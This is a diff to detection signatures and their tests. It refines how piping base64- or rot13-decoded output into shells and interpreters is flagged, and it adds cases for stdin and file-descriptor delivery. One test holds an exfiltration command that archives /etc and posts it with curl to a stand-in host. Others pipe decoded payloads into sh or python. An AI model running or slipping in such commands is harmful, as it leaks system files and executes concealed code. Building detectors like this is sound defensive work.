@@ -139,10 +139,13 @@ signature "decoder_piped_to_interpreter" {
       # /usr/bin/env execs the real one in the same process, under the same
       # parent; filters between decoder and interpreter (gunzip, tr, rev)
       # are siblings too and do not break the correlation.
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "tclsh", "wish", "expect", "lua"]
-      # Reading the script from stdin (sh, sh -s, python3 -, perl -) or a
-      # file, not running inline code.
-      no_flags = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      # The decoded stream is the program: read from standard input (sh,
+      # sh -s, python3 -, perl -, /dev/stdin) or a descriptor the
+      # interpreter names (sh /dev/fd/3 3<&0). A script's or a module's
+      # standard input is its data: `… | gunzip` runs `sh /usr/bin/gunzip`,
+      # `… | python3 -m json.tool` a module; neither is raised here.
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
@@ -348,8 +351,8 @@ signature "inline_decoder_piped_to_interpreter" {
       decode_calls = ["any"]
     }
     step "interpreter" {
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "tclsh", "wish", "expect", "lua"]
-      no_flags    = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox", "python", "pypy", "perl", "ruby", "php", "node", "nodejs", "bun", "tclsh", "wish", "expect", "lua", "luajit", "pwsh", "powershell"]
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
@@ -374,8 +377,8 @@ signature "rot13_piped_to_interpreter" {
       args_regex  = "^$|N-ZA-M|n-za-m|P-~!-O"
     }
     step "interpreter" {
-      executables = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "perl", "ruby", "php", "node", "nodejs", "tclsh"]
-      no_flags    = ["-c", "-e", "-E", "-r", "--version", "--help"]
+      executables  = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "python", "perl", "ruby", "php", "node", "nodejs", "tclsh"]
+      program_from = ["stdin", "fd"]
     }
   }
   actions {
@@ -536,6 +539,32 @@ test "openssl_x509_is_quiet" {
 test "exfiltration" {
   command = "sh -c 'tar cz /etc | base64 | curl -d @- https://example.invalid/u'"
   expect  = ["encoder_then_network"]
+}
+
+test "script_reading_decoded_data_is_not_critical" {
+  # Debian's gunzip, zcat, zgrep are /bin/sh scripts: the exec is
+  # "sh /usr/bin/gunzip", whose standard input is data, not its program.
+  command    = "sh -c 'base64 -d a.b64 | sh /usr/bin/gunzip | tar tv'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_piped_to_interpreter"]
+}
+
+test "module_reading_decoded_data_is_not_critical" {
+  command    = "sh -c 'base64 -d a.b64 | python3 -m json.tool'"
+  expect     = ["data_encoder_exec"]
+  expect_not = ["decoder_piped_to_interpreter"]
+}
+
+test "decoded_program_on_another_descriptor" {
+  # sh /dev/fd/3 3<&0 </dev/null: the program is descriptor 3, the
+  # decoder's pipe; standard input is /dev/null.
+  command = "sh -c 'cat t.b64 | base64 -d | sh /dev/fd/3 3<&0 </dev/null'"
+  expect  = ["decoder_piped_to_interpreter"]
+}
+
+test "decoded_program_on_stdin" {
+  command = "sh -c 'cat t.b64 | base64 -d | python3 -'"
+  expect  = ["decoder_piped_to_interpreter"]
 }
 
 test "git_is_quiet" {
